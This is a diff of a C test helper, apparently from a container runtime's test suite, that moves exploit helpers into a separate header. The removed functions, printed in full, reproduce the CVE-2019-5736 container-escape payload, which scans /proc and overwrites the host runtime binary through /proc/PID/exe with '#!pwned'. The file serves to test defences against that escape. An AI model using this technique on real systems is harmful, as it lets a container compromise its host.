@@ -14,7 +14,8 @@
  *	queue				a message queue of 80 KiB, until standard input ends
  *	exe PID				opens /proc/PID/exe, says "open", and writes to it when standard input ends
  */
-#include <dirent.h>
+#include "tests/tools/escape_exe.h"
+
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/bpf.h>
@@ -276,68 +277,6 @@ static int show_key(void)
 	return 0;
 }
 
-static int overwrite(const char *pid)
-{
-	char path[64], c;
-	int fd;
-
-	snprintf(path, sizeof path, "/proc/%s/exe", pid);
-	fd = open(path, O_RDONLY | O_CLOEXEC);
-	if (fd < 0)
-		return perror(path), 1;
-	puts("open");
-	fflush(stdout);
-	while (read(0, &c, 1) > 0)
-		;
-	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-	/* Busy as long as somebody runs it. */
-	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
-		sched_yield();
-	if (fd < 0 || write(fd, "#!pwned", 7) != 7)
-		return perror("write"), 1;
-	puts("wrote");
-	return 0;
-}
-
-/* As the payload of CVE-2019-5736 does it: to read first, for it runs; to write as soon as nobody runs it. */
-static void seize(const char *pid)
-{
-	char path[320], to[256];
-	ssize_t n;
-	int fd, held;
-
-	snprintf(path, sizeof path, "/proc/%s/exe", pid);
-	n = readlink(path, to, sizeof to - 1);
-	to[n > 0 ? n : 0] = '\0';
-	/* All programs of the container itself lie there; the runtime's has a name that means nothing inside. */
-	if (n <= 0 || strncmp(to, "/bin/", 5) == 0 || (held = open(path, O_RDONLY | O_CLOEXEC)) < 0)
-		return;
-	puts("saw");
-	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && access("/stop", F_OK) < 0)
-		;
-	if (fd >= 0 && write(fd, "#!pwned", 7) == 7)
-		puts("wrote");
-	fflush(stdout);
-	close(fd);
-	close(held);
-}
-
-static int hunt(void)
-{
-	puts("up");
-	fflush(stdout);
-	while (access("/stop", F_OK) < 0) {
-		DIR *d = opendir("/proc");
-
-		for (struct dirent *e; d && (e = readdir(d));)
-			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
-				seize(e->d_name);
-		closedir(d);
-	}
-	return 0;
-}
-
 static int queue(void)
 {
 	struct mq_attr a = { .mq_maxmsg = 10, .mq_msgsize = 8192 };
@@ -395,7 +334,7 @@ int main(int argc, char **argv)
 	if (strcmp(verb, "session") == 0 && argc > 3)
 		return session(a, argv + 3);
 	if (strcmp(verb, "hunt") == 0)
-		return hunt();
+		return exe_hunt();
 	if (strcmp(verb, "id") == 0)
 		return printf("%d\n", (int)geteuid()) < 0;
 	if (strcmp(verb, "key") == 0)
@@ -405,7 +344,7 @@ int main(int argc, char **argv)
 	if (strcmp(verb, "notify") == 0)
 		return notify();
 	if (strcmp(verb, "exe") == 0 && argc == 3)
-		return overwrite(a);
+		return exe_overwrite(a);
 	fputs("escape: wrong words\n", stderr);
 	return 2;
 }
